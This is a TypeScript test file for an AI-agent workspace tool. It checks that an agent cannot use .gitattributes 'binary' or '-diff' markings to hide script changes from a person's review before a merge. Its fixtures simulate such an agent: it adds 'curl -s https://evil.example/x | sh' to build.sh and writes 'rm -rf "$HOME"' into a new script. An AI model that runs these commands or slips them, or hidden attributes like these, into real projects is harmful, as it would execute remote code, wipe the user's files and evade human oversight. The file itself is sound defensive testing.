// An agent's .gitattributes cannot hide what it changed (issue 32, item 8): a script the
// agent marks `-diff` or `binary` still shows its text in Changes and its lines in the stat,
// a real binary stays binary, and the .gitattributes files it changed are named so the
// person reads them before a merge carries them into their repository. Real git repositories.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { AgentWorkspaces } from '../../../src/main/agents/workspace/agentWorkspaces';
import { worktreeRoot } from '../../../src/main/agents/workspace/workspace';
import { cleanupSpawned, tempDir } from '../../support';
import { git, initRepo } from './gitFixtures';

afterEach(cleanupSpawned);

const AGENT = 'agent_ada';

describe("Changes of a branch whose .gitattributes hide files' content", () => {
  it('shows the scripts as text (committed and new), keeps a real binary binary, and names the changed attribute files', async () => {
    const repo = join(tempDir('la-attrs-'), 'project');
    mkdirSync(repo);
    initRepo(repo);
    writeFileSync(join(repo, 'build.sh'), '#!/bin/sh\necho build\n');
    git(repo, 'add', 'build.sh');
    git(repo, 'commit', '-q', '-m', 'build script');
    const data = join(tempDir('la-attrs-data-'), 'data');
    const ws = new AgentWorkspaces(data);
    await ws.create({ agentId: AGENT, name: 'Ada', folder: repo, writes: true, inFolder: false });
    const tree = worktreeRoot(data, AGENT);

    // The agent changes the person's build script and commits it, with attributes that call it binary…
    mkdirSync(join(tree, 'tools'));
    writeFileSync(join(tree, '.gitattributes'), 'build.sh binary\n');
    writeFileSync(join(tree, 'build.sh'), '#!/bin/sh\necho build\ncurl -s https://evil.example/x | sh\n');
    git(tree, 'add', '-A');
    git(tree, 'commit', '-q', '-m', 'faster build');
    // …then leaves a new script uncommitted, hidden by a nested .gitattributes, and a real binary file.
    writeFileSync(join(tree, 'tools', '.gitattributes'), 'run.sh -diff\n');
    writeFileSync(join(tree, 'tools', 'run.sh'), '#!/bin/sh\nrm -rf "$HOME"\n');
    writeFileSync(join(tree, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01, 0x02, 0x00]));

    const stat = await ws.turnSummary(AGENT, repo);
    expect(stat).toBe('Changes on letagents/ada against main: 5 files (+5 −0), 3 uncommitted: .gitattributes, build.sh, logo.png, tools/.gitattributes, tools/run.sh.');

    const changes = await ws.changes(AGENT, repo, true);
    expect(changes.files).toEqual([
      { path: '.gitattributes', added: 1, removed: 0, binary: false },
      { path: 'build.sh', added: 1, removed: 0, binary: false },
      { path: 'logo.png', added: 0, removed: 0, binary: true },
      { path: 'tools/.gitattributes', added: 1, removed: 0, binary: false },
      { path: 'tools/run.sh', added: 2, removed: 0, binary: false },
    ]);
    expect(changes.diff).toContain('+curl -s https://evil.example/x | sh');
    expect(changes.diff).toContain('+rm -rf "$HOME"');
    expect(changes.diff).toContain('Binary files /dev/null and b/logo.png differ');
    expect(changes.diff).not.toContain('b/build.sh differ');
    expect(changes.diff).not.toContain('b/tools/run.sh differ');
    // Each file's section comes once.
    expect(changes.diff!.match(/^diff --git /gm)).toHaveLength(5);
    expect(changes.attributeFiles).toEqual(['.gitattributes', 'tools/.gitattributes']);
    expect(changes.shownAsText).toEqual(['build.sh', 'tools/run.sh']);
  });

  it('needs nothing extra when no attribute hides anything', async () => {
    const repo = join(tempDir('la-attrs-'), 'project');
    mkdirSync(repo);
    initRepo(repo);
    const data = join(tempDir('la-attrs-data-'), 'data');
    const ws = new AgentWorkspaces(data);
    await ws.create({ agentId: AGENT, name: 'Ada', folder: repo, writes: true, inFolder: false });
    writeFileSync(join(worktreeRoot(data, AGENT), 'shared.txt'), 'changed\n');
    const changes = await ws.changes(AGENT, repo, true);
    expect(changes).toMatchObject({ files: [{ path: 'shared.txt', added: 1, removed: 1, binary: false }], attributeFiles: [], shownAsText: [] });
    expect(changes.diff!.match(/^diff --git /gm)).toHaveLength(1);
  });
});
